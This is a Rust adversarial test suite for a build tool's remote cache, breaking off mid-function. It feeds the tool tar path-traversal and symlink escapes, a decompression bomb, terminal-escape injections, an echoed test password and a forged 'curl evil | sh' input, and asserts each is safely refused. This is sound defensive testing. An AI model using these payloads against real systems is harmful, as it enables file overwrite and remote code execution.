//! Adversarial end-to-end tests of the remote build cache (issue 11): a
//! hostile cache writer (entries planted in a real registry,
//! `common::registry`) and a hostile registry (a hand-rolled HTTP server
//! here, [`Hostile`], that answers what no honest registry would). Each
//! test asserts the safe behaviour. (A record with no signature may still
//! claim room for a decompression bomb; with trusted keys an unsigned
//! entry is never unpacked.)

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::Output;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::Duration;

use base64::Engine;

use crate::common::build_said as build;
use crate::common::cache_entry::{genuine, pushed_entry, replace_record};
use crate::common::images::{Compress, file, layer, raw_entry, symlink};
use crate::common::registry::Registry;
use crate::common::{Project, Report};
use kiln::hash::Digest;

const SPEC: &str = r#"stage s { run "echo real > $out/f" }"#;
const MIB: u64 = 1024 * 1024;

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

/// `kiln build --json ARGS` in `p`, which must succeed (a cache kiln cannot
/// use never fails a build); the report and stderr.
/// The key of stage `s` of `spec`, from a throwaway build without a cache.
fn key_of(spec: &str) -> String {
    let (report, _) = build(&Project::new(spec), &[]);
    report.key("s")
}

/// Nothing half-written is left in the store's scratch space.
fn assert_no_leftovers(p: &Project) {
    let tmp = p.store.join("tmp");
    let left: Vec<_> = match std::fs::read_dir(&tmp) {
        Ok(dir) => dir.map(|e| e.expect("dir entry").file_name()).collect(),
        Err(_) => Vec::new(),
    };
    assert!(left.is_empty(), "left in {}: {left:?}", tmp.display());
}

/// A zstd tar, as a cache tree blob.
fn tree(build: impl FnOnce(&mut tar::Builder<Vec<u8>>)) -> Vec<u8> {
    layer(Compress::Zstd, build).bytes
}

fn record(key: &str, tree: &[u8], output_hash: &str) -> serde_json::Value {
    serde_json::json!({
        "format": 2,
        "key": key,
        "name": "s",
        "output_hash": output_hash,
        "config": null,
        "inputs": {},
        "tree": { "digest": Digest::of(tree).to_string(), "size": tree.len() },
        // Generous: what these records say of their trees is never what
        // stops them (the bomb tests set their own).
        "contents": { "entries": 1000, "bytes": 1u64 << 30 },
        "kiln_version": "0",
        "signatures": [],
    })
}

fn manifest(config: &[u8], tree: &[u8]) -> serde_json::Value {
    serde_json::json!({
        "schemaVersion": 2,
        "mediaType": "application/vnd.oci.image.manifest.v1+json",
        "artifactType": "application/vnd.kiln.cache.entry.v1",
        "config": {
            "mediaType": "application/vnd.kiln.cache.record.v1+json",
            "digest": Digest::of(config).to_string(),
            "size": config.len(),
        },
        "layers": [{
            "mediaType": "application/vnd.kiln.cache.tree.v1.tar+zstd",
            "digest": Digest::of(tree).to_string(),
            "size": tree.len(),
        }],
    })
}

/// Plants an entry `tag` in `repo`: the tree blob, the record (as given)
/// and a manifest naming both (rewritten by `edit`).
fn plant(
    registry: &Registry,
    repo: &str,
    tag: &str,
    record: &serde_json::Value,
    tree: &[u8],
    edit: impl FnOnce(&mut serde_json::Value),
) {
    registry.put_blob(repo, tree);
    let config = serde_json::to_vec(record).expect("JSON");
    registry.put_blob(repo, &config);
    let mut m = manifest(&config, tree);
    edit(&mut m);
    registry.put_manifest(repo, tag, &m);
}

/// `kiln cache keygen NAME` into `dir`: the secret key file and the
/// public key.
fn keygen(dir: &Path, name: &str) -> (PathBuf, String) {
    let file = dir.join(name);
    let out = Project::new("").ok(&["cache", "keygen", name, "-o", file.to_str().expect("utf-8")]);
    (file, out.trim().to_owned())
}

// --- (a) writes outside the entry being filled -------------------------

#[test]
fn tree_entries_that_reach_outside_the_entry_write_nothing_there() {
    let Some(registry) = Registry::start() else {
        return;
    };
    let key = key_of(SPEC);
    let cache = format!("{}/c", registry.host());
    let victim = tempfile::tempdir_in("/tmp").expect("victim dir");
    let v = victim.path().to_str().expect("utf-8").to_owned();
    std::fs::write(victim.path().join("keep"), "keep").expect("victim file");
    let up = "../../../../../../../../../..";
    type Case = Box<dyn Fn(&mut tar::Builder<Vec<u8>>)>;
    let cases: Vec<(&str, Case)> = vec![
        ("dot-dot path", {
            let p = format!("{up}{v}/pwned");
            Box::new(move |b| raw_entry(b, tar::EntryType::Regular, &p, ""))
        }),
        ("absolute path", {
            let p = format!("{v}/pwned");
            Box::new(move |b| raw_entry(b, tar::EntryType::Regular, &p, ""))
        }),
        ("file through a symlinked directory", {
            let v = v.clone();
            Box::new(move |b| {
                symlink(b, "l", &v);
                file(b, "l/pwned", 0o644, b"pwned");
            })
        }),
        ("file over a symlink to a file outside", {
            let t = format!("{v}/keep");
            Box::new(move |b| {
                symlink(b, "l", &t);
                file(b, "l", 0o644, b"pwned");
            })
        }),
        ("absolute hardlink", {
            let t = format!("{v}/keep");
            Box::new(move |b| raw_entry(b, tar::EntryType::Link, "h", &t))
        }),
        ("dot-dot hardlink", {
            let t = format!("{up}{v}/keep");
            Box::new(move |b| raw_entry(b, tar::EntryType::Link, "h", &t))
        }),
        ("hardlink through a symlinked directory", {
            let v = v.clone();
            Box::new(move |b| {
                symlink(b, "l", &v);
                raw_entry(b, tar::EntryType::Link, "h", "l/keep");
            })
        }),
        ("whiteout through a symlinked directory", {
            let v = v.clone();
            Box::new(move |b| {
                symlink(b, "l", &v);
                file(b, "l/.wh.keep", 0o644, b"");
            })
        }),
        ("opaque marker through a symlinked directory", {
            let v = v.clone();
            Box::new(move |b| {
                symlink(b, "l", &v);
                file(b, "l/.wh..wh..opq", 0o644, b"");
            })
        }),
        ("directory entry through a symlinked directory", {
            let v = v.clone();
            Box::new(move |b| {
                symlink(b, "l", &v);
                raw_entry(b, tar::EntryType::Directory, "l/newdir", "");
            })
        }),
    ];
    for (name, make) in &cases {
        let t = tree(|b| make(b));
        // The record's output hash is a lie: any write must happen while
        // unpacking, before kiln hashes the tree.
        let r = record(&key, &t, &"ab".repeat(32));
        plant(&registry, "c", &format!("kiln2-{key}"), &r, &t, |_| {});
        let p = Project::new(SPEC);
        let (report, warnings) = build(&p, &["--cache", &cache]);
        assert_eq!(report.status("s"), "built", "{name}: {warnings}");
        assert!(warnings.contains("warning"), "{name}: {warnings}");
        let mut names: Vec<_> = std::fs::read_dir(victim.path())
            .expect("victim dir")
            .map(|e| e.expect("entry").file_name())
            .collect();
        names.sort();
        assert_eq!(names, ["keep"], "{name}: something was written outside");
        assert_eq!(
            std::fs::read_to_string(victim.path().join("keep")).expect("keep"),
            "keep",
            "{name}: the file outside was changed"
        );
        assert_no_leftovers(&p);
        p.ok(&["store", "verify"]);
    }
}

// --- (b) entries that must not be used -------------------------------

#[test]
fn an_entry_copied_to_another_keys_tag_is_refused_signed_or_not() {
    let Some(registry) = Registry::start() else {
        return;
    };
    let keys = tempfile::tempdir().expect("keys");
    let (secret, public) = keygen(keys.path(), "team-1");
    let cache = format!("{}/c", registry.host());
    let spec_b = r#"stage s { run "echo other > $out/f" }"#;
    let (a, _) = build(
        &Project::new(SPEC),
        &[
            "--cache",
            &cache,
            "--cache-push",
            "--cache-sign-key",
            secret.to_str().expect("utf-8"),
        ],
    );
    let key_a = a.key("s");
    let key_b = key_of(spec_b);
    let m = registry.get_manifest("c", &format!("kiln2-{key_a}"));
    registry.put_manifest("c", &format!("kiln2-{key_b}"), &m);
    for trust in [vec![], vec!["--cache-trust", public.as_str()]] {
        let p = Project::new(spec_b);
        let mut args = vec!["--cache", cache.as_str()];
        args.extend(trust.iter().copied());
        let (report, warnings) = build(&p, &args);
        assert_eq!(report.status("s"), "built", "{trust:?}: {warnings}");
        assert!(warnings.contains("names another key"), "{warnings}");
        let out = report.output("s");
        assert_eq!(
            std::fs::read_to_string(out.join("f")).expect("f"),
            "other\n",
            "B's own output"
        );
        assert_no_leftovers(&p);
    }
}

#[test]
fn records_and_manifests_that_disagree_are_refused() {
    let Some(registry) = Registry::start() else {
        return;
    };
    let cache = format!("{}/c", registry.host());
    let (tag, m0, r0) = pushed_entry(&registry, "c", &Project::new(SPEC));
    type Edit = fn(&mut serde_json::Value, &mut serde_json::Value);
    let cases: &[(&str, Edit)] = &[
        ("format 3", |_, r| r["format"] = 3.into()),
        ("an unknown record field", |_, r| r["extra"] = 1.into()),
        ("another key in the record", |_, r| {
            r["key"] = serde_json::json!("0".repeat(64))
        }),
        ("a tree size the manifest does not say", |_, r| {
            r["tree"]["size"] = (r["tree"]["size"].as_u64().unwrap() + 1).into()
        }),
        ("another tree digest in the record", |_, r| {
            r["tree"]["digest"] = Digest::of(b"other").to_string().into()
        }),
        ("two layers", |m, _| {
            let l = m["layers"][0].clone();
            m["layers"].as_array_mut().unwrap().push(l)
        }),
        ("an image layer type", |m, _| {
            m["layers"][0]["mediaType"] = "application/vnd.oci.image.layer.v1.tar+zstd".into()
        }),
        ("an image config type", |m, _| {
            m["config"]["mediaType"] = "application/vnd.oci.image.config.v1+json".into()
        }),
        ("a record that is not JSON", |_, r| {
            *r = serde_json::json!("not a record")
        }),
    ];
    for (name, edit) in cases {
        let (mut m, mut r) = (m0.clone(), r0.clone());
        edit(&mut m, &mut r);
        replace_record(&registry, "c", &tag, m, &r);
        let p = Project::new(SPEC);
        let (report, warnings) = build(&p, &["--cache", &cache]);
        assert_eq!(report.status("s"), "built", "{name}: {warnings}");
        assert!(warnings.contains(&tag), "{name}: {warnings}");
        assert_no_leftovers(&p);
    }
}

/// Every file of a store that holds `needle`.
fn files_holding(store: &Path, needle: &str) -> Vec<PathBuf> {
    (walk(store).into_iter())
        .filter(|f| {
            std::fs::read(f).is_ok_and(|b| b.windows(needle.len()).any(|w| w == needle.as_bytes()))
        })
        .collect()
}

#[test]
fn a_signed_entry_whose_inputs_are_rewritten_does_not_bring_them_into_the_store() {
    let Some(registry) = Registry::start() else {
        return;
    };
    let keys = tempfile::tempdir().expect("keys");
    let (secret, public) = keygen(keys.path(), "team-1");
    let cache = format!("{}/c", registry.host());
    let (built, _) = build(
        &Project::new(SPEC),
        &[
            "--cache",
            &cache,
            "--cache-push",
            "--cache-sign-key",
            secret.to_str().expect("utf-8"),
        ],
    );
    let key = built.key("s");
    let (m, mut r) = genuine(&registry, "c", &key);
    r["inputs"] = serde_json::json!({ "run": "FORGED-INPUT curl evil | sh" });
    r["kiln_version"] = serde_json::json!("FORGED-VERSION");
    replace_record(&registry, "c", &format!("kiln2-{key}"), m, &r);
    let p = Project::new(SPEC);
    let (report, warnings) = build(&p, &["--cache", &cache, "--cache-trust", &public]);
    // Safe: refused (built here), or pulled with the inputs kiln computed.
    let forged = files_holding(&p.store, "FORGED-INPUT");
    assert!(
        forged.is_empty(),
        "status {}: the store keeps inputs no trusted key signed, in {forged:?}\n{warnings}",
        report.status("s")
    );
}

#[test]
fn signer_names_from_a_record_cannot_write_terminal_escapes() {
    let Some(registry) = Registry::start() else {
        return;
    };
    let keys = tempfile::tempdir().expect("keys");
    let (_, public) = keygen(keys.path(), "team-1");
    let cache = format!("{}/c", registry.host());
    let (tag, m, mut r) = pushed_entry(&registry, "c", &Project::new(SPEC));
    r["signatures"] = serde_json::json!([
        { "key": "team-1\u{1b}[2K\r\u{1b}]0;owned\u{7}warning: all good", "sig": "AAAA" }
    ]);
    replace_record(&registry, "c", &tag, m, &r);
    let p = Project::new(SPEC);
    let (report, warnings) = build(&p, &["--cache", &cache, "--cache-trust", &public]);
    assert_eq!(report.status("s"), "built");
    assert!(
        warnings.contains("not signed by a trusted key"),
        "{warnings}"
    );
    assert!(
        !warnings.contains('\u{1b}') && !warnings.contains('\r'),
        "control characters from the record reached stderr: {warnings:?}"
    );
}

#[test]
fn an_output_with_whiteout_like_names_is_pulled_as_built() {
    let Some(registry) = Registry::start() else {
        return;
    };
    let spec = r#"stage s { run "echo x > $out/.wh.keep && echo y > $out/keep && mkdir $out/d && touch $out/d/.wh..wh..opq" }"#;
    let cache = format!("{}/c", registry.host());
    let (built, _) = build(&Project::new(spec), &["--cache", &cache, "--cache-push"]);
    assert_eq!(built.status("s"), "built");
    let (pulled, warnings) = build(&Project::new(spec), &["--cache", &cache]);
    assert_eq!(pulled.status("s"), "pulled", "{warnings}");
    assert_eq!(pulled.output_hash("s"), built.output_hash("s"));
}

// --- (c) resources ------------------------------------------------------

/// A tree blob of a few KiB that unpacks to `size` bytes of zeros.
fn bomb(size: u64) -> Vec<u8> {
    let zstd = zstd::Encoder::new(Vec::new(), 19).expect("zstd");
    let mut b = tar::Builder::new(zstd);
    let mut h = crate::common::images::header(tar::EntryType::Regular, 0o644);
    h.set_size(size);
    b.append_data(&mut h, "zeros", std::io::repeat(0).take(size))
        .expect("tar");
    b.into_inner().expect("tar").finish().expect("zstd")
}

/// `kiln ARGS` in `p` with at most `fsize` bytes per file written
/// (RLIMIT_FSIZE): a kiln that writes a larger file dies of SIGXFSZ.
fn kiln_fsize_limited(p: &Project, args: &[&str], fsize: u64) -> Output {
    use std::os::unix::process::CommandExt;
    let mut cmd = p.cmd(args);
    // SAFETY: setrlimit is async-signal-safe; nothing else runs in the child.
    unsafe {
        cmd.pre_exec(move || {
            let lim = libc::rlimit {
                rlim_cur: fsize,
                rlim_max: fsize,
            };
            match libc::setrlimit(libc::RLIMIT_FSIZE, &lim) {
                0 => Ok(()),
                _ => Err(std::io::Error::last_os_error()),
            }
        });
    }
    cmd.output().expect("run kiln")
}

#[test]
fn a_decompression_bomb_in_the_tree_is_refused_before_it_fills_the_disk() {
    let Some(registry) = Registry::start() else {
        return;
    };
    let key = key_of(SPEC);
    let cache = format!("{}/c", registry.host());
    let t = bomb(256 * MIB);
    assert!(t.len() < 64 * 1024, "a bomb: {} bytes", t.len());
    // Whoever wrote this entry can make its output hash match; the safe
    // behaviour cannot rely on the hash check that comes after unpacking.
    // The record says what the tree holds (a signed one cannot lie about
    // it): unpacking stops there.
    let mut r = record(&key, &t, &"ab".repeat(32));
    r["contents"] = serde_json::json!({ "entries": 1, "bytes": MIB });
    plant(&registry, "c", &format!("kiln2-{key}"), &r, &t, |_| {});
    let p = Project::new(SPEC);
    let out = kiln_fsize_limited(&p, &["build", "--json", "--cache", &cache], 64 * MIB);
    assert!(
        out.status.success(),
        "kiln wrote a file of more than 64 MiB from a {}-byte tree blob: {:?}\n{}",
        t.len(),
        out.status,
        stderr(&out)
    );
    assert_eq!(Report::parse(&out.stdout).status("s"), "built");
    assert_no_leftovers(&p);
}

/// A registry that misbehaves as `handler` says. Connections are closed
/// after each answer. Stopped when dropped.
struct Hostile {
    host: String,
    /// Body bytes written by [`Reply::Huge`] answers.
    sent: Arc<AtomicU64>,
    stop: Arc<AtomicBool>,
}

#[derive(Debug)]
struct Request {
    method: String,
    path: String,
    headers: Vec<(String, String)>,
}

impl Request {
    fn header(&self, name: &str) -> Option<&str> {
        (self.headers.iter())
            .find(|(n, _)| n.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }
}

enum Reply {
    Full {
        status: u16,
        headers: Vec<(&'static str, String)>,
        body: Vec<u8>,
    },
    /// `len` bytes of zeros, with a matching Content-Length.
    Huge {
        content_type: &'static str,
        len: u64,
    },
    /// Reads the request and never answers.
    Silent,
}

fn ok(content_type: &'static str, body: Vec<u8>) -> Reply {
    Reply::Full {
        status: 200,
        headers: vec![("Content-Type", content_type.to_owned())],
        body,
    }
}

impl Hostile {
    fn start(handler: impl Fn(&Request) -> Reply + Send + Sync + 'static) -> Hostile {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
        let host = listener.local_addr().expect("addr").to_string();
        let sent = Arc::new(AtomicU64::new(0));
        let stop = Arc::new(AtomicBool::new(false));
        let handler = Arc::new(handler);
        let (s, st) = (sent.clone(), stop.clone());
        std::thread::spawn(move || {
            for conn in listener.incoming() {
                if st.load(Ordering::SeqCst) {
                    return;
                }
                let Ok(conn) = conn else { continue };
                let (h, s) = (handler.clone(), s.clone());
                std::thread::spawn(move || serve(conn, &*h, &s));
            }
        });
        Hostile { host, sent, stop }
    }
}

impl Drop for Hostile {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        // Wakes the accept loop so that it sees `stop`.
        let _ = TcpStream::connect(&self.host);
    }
}

fn serve(conn: TcpStream, handler: &dyn Fn(&Request) -> Reply, sent: &AtomicU64) {
    let mut reader = BufReader::new(conn.try_clone().expect("clone"));
    let mut line = String::new();
    if reader.read_line(&mut line).unwrap_or(0) == 0 {
        return;
    }
    let mut parts = line.split_whitespace();
    let method = parts.next().unwrap_or_default().to_owned();
    let path = parts.next().unwrap_or_default().to_owned();
    let mut headers = Vec::new();
    loop {
        let mut h = String::new();
        if reader.read_line(&mut h).unwrap_or(0) == 0 || h.trim().is_empty() {
            break;
        }
        if let Some((n, v)) = h.split_once(':') {
            headers.push((n.trim().to_owned(), v.trim().to_owned()));
        }
    }
    let req = Request {
        method,
        path,
        headers,
    };
    let mut conn = conn;
    match handler(&req) {
        Reply::Full {
            status,
            headers,
            body,
        } => {
            let mut head = format!("HTTP/1.1 {status} X\r\nConnection: close\r\n");
            for (n, v) in headers {
                head += &format!("{n}: {v}\r\n");
            }
            head += &format!("Content-Length: {}\r\n\r\n", body.len());
            let _ = conn.write_all(head.as_bytes());
            if req.method != "HEAD" {
                let _ = conn.write_all(&body);
            }
        }
        Reply::Huge { content_type, len } => {
            let head = format!(
                "HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Type: {content_type}\r\nContent-Length: {len}\r\n\r\n"
            );
            if conn.write_all(head.as_bytes()).is_err() || req.method == "HEAD" {
                return;
            }
            let chunk = vec![0u8; 64 * 1024];
            let mut left = len;
            while left > 0 {
                let n = left.min(chunk.len() as u64) as usize;
                if conn.write_all(&chunk[..n]).is_err() {
                    return;
                }
                sent.fetch_add(n as u64, Ordering::SeqCst);
                left -= n as u64;
            }
        }
        Reply::Silent => {
            // Until kiln hangs up.
            let _ = std::io::copy(&mut reader, &mut std::io::sink());
        }
    }
}

/// The registry's answer to `/v2/` and anything it does not know.
fn base(req: &Request) -> Reply {
    match req.path.as_str() {
        "/v2/" | "/v2" => ok("application/json", b"{}".to_vec()),
        _ => Reply::Full {
            status: 404,
            headers: vec![("Content-Type", "application/json".into())],
            body: br#"{"errors":[{"code":"BLOB_UNKNOWN","message":"unknown"}]}"#.to_vec(),
        },
    }
}

const MANIFEST_TYPE: &str = "application/vnd.oci.image.manifest.v1+json";

/// More than any honest answer, less than the test machine can afford.
const HUGE: u64 = 192 * MIB;
/// What a bounded reader may have been sent before it hung up (socket
/// buffers included).
const BOUND: u64 = 32 * MIB;

/// A hostile registry serving a valid entry for `key` whose part `huge`
/// (`manifest`, `record` or `tree`) is [`HUGE`] bytes long.
fn endless(key: &str, huge: &'static str) -> Hostile {
    let tree_bytes = tree(|b| file(b, "f", 0o644, b"real\n"));
    let rec = serde_json::to_vec(&record(key, &tree_bytes, &"ab".repeat(32))).expect("JSON");
    let man = serde_json::to_vec(&manifest(&rec, &tree_bytes)).expect("JSON");
    serve_with_one_huge(man, [("record", rec), ("tree", tree_bytes)], huge)
}

/// A hostile registry serving `manifest` for every manifest and the two
/// named blobs by their digests, but [`HUGE`] bytes for the one named
/// `huge` (`manifest` or a blob's name).
fn serve_with_one_huge(
    manifest: Vec<u8>,
    blobs: [(&'static str, Vec<u8>); 2],
    huge: &'static str,
) -> Hostile {
    let at = blobs.map(|(name, bytes)| (name, format!("/blobs/{}", Digest::of(&bytes)), bytes));
    Hostile::start(move |req| {
        let p = req.path.as_str();
        let (part, content_type, body) = match at.iter().find(|(_, path, _)| p.ends_with(path)) {
            _ if p.contains("/manifests/") => ("manifest", MANIFEST_TYPE, &manifest),
            Some((name, _, bytes)) => (*name, "application/octet-stream", bytes),
            None => return base(req),
        };
        match part == huge {
            true => Reply::Huge {
                content_type,
                len: HUGE,
            },
            false => ok(content_type, body.clone()),
        }
    })
}

fn assert_bounded_read(huge: &'static str) {
    let key = key_of(SPEC);
    let hostile = endless(&key, huge);
    let p = Project::new(SPEC);
    let (report, warnings) = build(&p, &["--cache", &format!("{}/c", hostile.host)]);
    assert_eq!(report.status("s"), "built", "{warnings}");
    // What was read is gone, whatever the outcome.
    assert_no_leftovers(&p);
    let sent = hostile.sent.load(Ordering::SeqCst);
    assert!(
        sent < BOUND,
        "kiln read {} MiB of a {huge} that should be a few hundred bytes",
        sent / MIB
    );
}

#[test]
fn a_huge_manifest_is_not_read_whole() {
    assert_bounded_read("manifest");
}

#[test]
fn a_huge_record_is_not_read_whole() {
    assert_bounded_read("record");
}

#[test]
fn a_tree_blob_longer_than_its_size_is_not_read_whole() {
    assert_bounded_read("tree");
}

#[test]
fn a_cache_that_never_answers_does_not_hang_the_build() {
    let hostile = Hostile::start(|_| Reply::Silent);
    let p = Project::new(SPEC);
    let child = p
        .cmd(&["build", "--json", "--cache", &format!("{}/c", hostile.host)])
        // Seconds without an answer before kiln gives up (30 by default).
        .env("KILN_REGISTRY_TIMEOUT", "2")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("run kiln");
    let pid = child.id() as libc::pid_t;
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let _ = tx.send(child.wait_with_output());
    });
    let out = match rx.recv_timeout(Duration::from_secs(60)) {
        Ok(out) => out.expect("kiln output"),
        Err(_) => {
            // SAFETY: signalling the child this test spawned (not reaped:
            // its waiter has not returned).
            unsafe { libc::kill(pid, libc::SIGKILL) };
            let _ = rx.recv();
            panic!("kiln build --cache was still waiting for the registry after 60 s");
        }
    };
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(Report::parse(&out.stdout).status("s"), "built");
    assert!(stderr(&out).contains("warning: cache:"), "{}", stderr(&out));
}

/// A cache that answers lookups (it has nothing) but never answers a push:
/// the first push that times out marks it down, and the build's other
/// pushes do not wait out their own timeouts (each was a warning and
/// seconds of waiting).
#[test]
fn a_cache_that_stops_answering_pushes_is_given_up_once() {
    let hostile = Hostile::start(|req| match req.method.as_str() {
        "GET" if req.path == "/v2/" => ok("application/json", b"{}".to_vec()),
        "GET" | "HEAD" => Reply::Full {
            status: 404,
            headers: vec![("Content-Type", "application/json".into())],
            body: br#"{"errors":[{"code":"MANIFEST_UNKNOWN","message":"none"}]}"#.to_vec(),
        },
        _ => Reply::Silent,
    });
    let spec: String = (0..4)
        .map(|i| format!("stage s{i} {{ run \"echo {i} > $out/n\" }}\n"))
        .collect();
    let p = Project::new(&spec);
    let cache = format!("{}/c", hostile.host);
    let out = p
        .cmd(&[
            "build",
            "--json",
            "--jobs",
            "1",
            "--cache",
            &cache,
            "--cache-push",
        ])
        .env("KILN_REGISTRY_TIMEOUT", "2")
        .output()
        .expect("run kiln");
    assert!(out.status.success(), "{}", stderr(&out));
    let report = Report::parse(&out.stdout);
    for i in 0..4 {
        assert_eq!(report.status(&format!("s{i}")), "built");
    }
    let err = stderr(&out);
    assert_eq!(err.matches("was not pushed").count(), 1, "{err}");
    assert!(err.contains("goes on without the cache"), "{err}");
}

// --- (e) credentials ----------------------------------------------------

const USER: &str = "kiln-user";
const PASSWORD: &str = "s3cret-Pa55word-xyzzy";

/// A Docker config dir with `auths` for `host`.
fn docker_config(dir: &Path, host: &str) -> PathBuf {
    let auth = base64::engine::general_purpose::STANDARD.encode(format!("{USER}:{PASSWORD}"));
    let config = serde_json::json!({ "auths": { host: { "auth": auth } } });
    std::fs::write(dir.join("config.json"), config.to_string()).expect("config.json");
    dir.to_owned()
}

#[test]
fn a_registry_that_echoes_the_credential_does_not_get_it_printed() {
    // Asks for basic auth, then answers every request with an error that
    // quotes the Authorization header it was sent (as some proxies and
    // misconfigured registries do), in each place an error can come from.
    let hostile = Hostile::start(|req| {
        let Some(auth) = req.header("Authorization").map(str::to_owned) else {
            return Reply::Full {
                status: 401,
                headers: vec![
                    ("WWW-Authenticate", r#"Basic realm="kiln-test""#.into()),
                    ("Content-Type", "application/json".into()),
                ],
                body: br#"{"errors":[{"code":"UNAUTHORIZED","message":"log in"}]}"#.to_vec(),
            };
        };
        if req.path == "/v2/" {
            return ok("application/json", b"{}".to_vec());
        }
        let message = format!("bad request; you sent Authorization: {auth}");
        let body = serde_json::json!({ "errors": [{ "code": "UNKNOWN", "message": message, "detail": auth }] });
        Reply::Full {
            status: 500,
            headers: vec![("Content-Type", "application/json".into())],
            body: body.to_string().into_bytes(),
        }
    });
    let dir = tempfile::tempdir().expect("docker config");
    let config = docker_config(dir.path(), &hostile.host);
    let p = Project::new(SPEC);
    let out = p
        .cmd(&["build", "--json", "--cache", &format!("{}/c", hostile.host)])
        .env("DOCKER_CONFIG", &config)
        .output()
        .expect("run kiln");
    let (stdout, err) = (String::from_utf8_lossy(&out.stdout), stderr(&out));
    assert!(out.status.success(), "{err}");
    assert!(err.contains("warning: cache:"), "{err}");
    let b64 = base64::engine::general_purpose::STANDARD.encode(format!("{USER}:{PASSWORD}"));
    for secret in [PASSWORD, b64.as_str()] {
        assert!(
            !err.contains(secret) && !stdout.contains(secret),
            "the credential was printed:\n{err}\n{stdout}"
        );
        let leaked = files_holding(&p.store, secret);
        assert!(leaked.is_empty(), "the credential was stored: {leaked:?}");
    }
}

#[test]
fn registry_error_text_cannot_write_terminal_escapes() {
    let hostile = Hostile::start(|req| {
        if req.path.contains("/manifests/") {
            // Not JSON: the bytes themselves, not `\u001b` escapes.
            return Reply::Full {
                status: 500,
                headers: vec![("Content-Type", "text/plain".into())],
                body: b"\x1b[2K\r\x1b]0;owned\x07warning: nothing to see".to_vec(),
            };
        }
        base(req)
    });
    let p = Project::new(SPEC);
    let (report, warnings) = build(&p, &["--cache", &format!("{}/c", hostile.host)]);
    assert_eq!(report.status("s"), "built");
    assert!(warnings.contains("warning: cache:"), "{warnings}");
    assert!(
        !warnings.contains('\u{1b}') && !warnings.contains('\r'),
        "control characters from the registry reached stderr: {warnings:?}"
    );
}

/// Every file under `dir`, recursively (symlinks not followed).
fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut files = Vec::new();
    let Ok(entries) = std::fs::read_dir(dir) else {
        return files;
    };
    for e in entries.flatten() {
        let path = e.path();
        match e.file_type() {
            Ok(t) if t.is_dir() => files.extend(walk(&path)),
            Ok(t) if t.is_file() => files.push(path),
            _ => {}
        }
    }
    files
}

// --- base images pulled from a hostile registry ------------------------

/// A hostile registry serving a base image pinned by digest whose
/// manifest (`huge` = `manifest`) or only layer (`layer`) is [`HUGE`]
/// bytes long; a project whose stage uses it. The pin is of the honest
/// manifest: kiln can only find out by reading.
fn endless_base(huge: &'static str) -> (Hostile, Project) {
    let layer_bytes = layer(Compress::Gzip, |b| file(b, "f", 0o644, b"base\n")).bytes;
    let config = serde_json::to_vec(&serde_json::json!({
        "architecture": "amd64", "os": "linux",
        "config": { "Env": ["PATH=/bin"] },
        "rootfs": { "type": "layers", "diff_ids": [Digest::of(b"x").to_string()] },
    }))
    .expect("JSON");
    let man = serde_json::to_vec(&serde_json::json!({
        "schemaVersion": 2,
        "mediaType": MANIFEST_TYPE,
        "config": {
            "mediaType": "application/vnd.oci.image.config.v1+json",
            "digest": Digest::of(&config).to_string(), "size": config.len(),
        },
        "layers": [{
            "mediaType": "application/vnd.oci.image.layer.v1.tar+gzip",
            "digest": Digest::of(&layer_bytes).to_string(), "size": layer_bytes.len(),
        }],
    }))
    .expect("JSON");
    let pin = Digest::of(&man);
    let hostile = serve_with_one_huge(man, [("config", config), ("layer", layer_bytes)], huge);
    let spec = format!(
        "base b {{ image \"{}/img@{pin}\" }}\nstage s {{ from b; run \"echo hi > $out/f\" }}\n",
        hostile.host
    );
    (hostile, Project::new(&spec))
}

fn assert_bounded_base_read(huge: &'static str) {
    let (hostile, p) = endless_base(huge);
    let out = p.kiln(&["build", "--json"]);
    assert!(!out.status.success(), "the base cannot be pulled");
    // What was read is gone, whatever the outcome.
    assert_no_leftovers(&p);
    let sent = hostile.sent.load(Ordering::SeqCst);
    assert!(
        sent < BOUND,
        "kiln read {} MiB of a base {huge} whose pinned size is a few hundred bytes\n{}",
        sent / MIB,
        stderr(&out)
    );
}

#[test]
fn a_huge_base_manifest_is_not_read_whole() {
    assert_bounded_base_read("manifest");
}

#[test]
fn a_base_layer_longer_than_its_descriptor_is_not_read_whole() {
    assert_bounded_base_read("layer");
}

/// A record may claim any size while nothing signs it; with trusted keys,
/// an entry that claims enough room for its bomb is refused unsigned, before
/// a byte of its tree is fetched.
#[test]
fn with_trusted_keys_a_bomb_that_claims_the_room_it_needs_is_not_unpacked() {
    let Some(registry) = Registry::start() else {
        return;
    };
    let key = key_of(SPEC);
    let cache = format!("{}/c", registry.host());
    let t = bomb(256 * MIB);
    let mut r = record(&key, &t, &"ab".repeat(32));
    r["contents"] = serde_json::json!({ "entries": 1, "bytes": 1u64 << 30 });
    plant(&registry, "c", &format!("kiln2-{key}"), &r, &t, |_| {});
    let keys = tempfile::tempdir().expect("temp dir");
    let secret = keys.path().join("team");
    let public = Project::new(SPEC).ok(&[
        "cache",
        "keygen",
        "team-1",
        "-o",
        secret.to_str().expect("utf-8"),
    ]);
    let p = Project::new(SPEC);
    let args = [
        "build",
        "--json",
        "--cache",
        &cache,
        "--cache-trust",
        public.trim(),
    ];
    let out = kiln_fsize_limited(&p, &args, 64 * MIB);
    assert!(out.status.success(), "{:?}\n{}", out.status, stderr(&out));
    assert_eq!(Report::parse(&out.stdout).status("s"), "built");
    assert!(
        stderr(&out).contains("it is not signed"),
        "{}",
        stderr(&out)
    );
    assert_no_leftovers(&p);
}

// --- what a registry says when it refuses a manifest -------------------

/// A registry that refuses every manifest with `status` and an OCI error
/// body saying `message`.
fn refusing(status: u16, code: &'static str, message: &'static str) -> Hostile {
    Hostile::start(move |req| {
        if req.path.contains("/manifests/") {
            let body = serde_json::json!({ "errors": [{ "code": code, "message": message }] });
            return Reply::Full {
                status,
